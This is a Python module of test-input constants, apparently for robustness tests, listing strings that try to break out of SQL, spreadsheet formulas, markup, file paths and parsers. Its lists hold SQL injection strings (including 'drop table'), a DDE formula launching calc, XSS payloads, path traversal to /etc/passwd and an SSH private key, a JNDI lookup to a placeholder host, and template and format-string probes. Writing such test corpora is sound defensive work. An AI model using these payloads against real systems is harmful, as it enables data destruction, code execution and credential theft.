"""Texts by which one tries to break out of SQL, paths, pages, logs, spreadsheets and parsers."""

from __future__ import annotations

from typing import Final

SQL: Final = (
    "'; drop table episode; --",
    "' or '1'='1",
    '" or ""="',
    "x') union select episode_id from episode --",
    "$1); attach 'x.db' as x; --",
    "a''b\"c\\",
    "/* */ select 1; /*",
    "%' escape '%",
)
FORMULA: Final = ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1")
MARKUP: Final = (
    "<script>alert(1)</script>",
    "![x](http://192.0.2.9/x.png)",
    "[x](javascript:alert(1))",
    "$\\href{http://192.0.2.9}{x}$",
    ":material/x: :red[x]",
    "</title><img src=x onerror=alert(1)>",
)
PATHS: Final = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "//192.0.2.9/share",
    "\\\\192.0.2.9\\share",
    "C:\\x",
    "file:///etc/passwd",
    "....//....//etc/passwd",
    "CON",
    "~root/.ssh/id_rsa",
)
ODD: Final = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\u202eabc",
    "\ufeff",
    "\U0001f9a0" * 20,
    "e\u0301" * 50,
    "%00",
    "%s%n%x",
    "{0.__class__}",
    "{{7*7}}",
    "${jndi:ldap://192.0.2.9/a}",
    "None",
    "NaN",
    "-1",
    "99999999999999999999",
    "2026-13-45",
    "a" * 5000,
    "\n\r\n",
)
TEXTS: Final = (*SQL, *FORMULA, *MARKUP, *PATHS, *ODD)
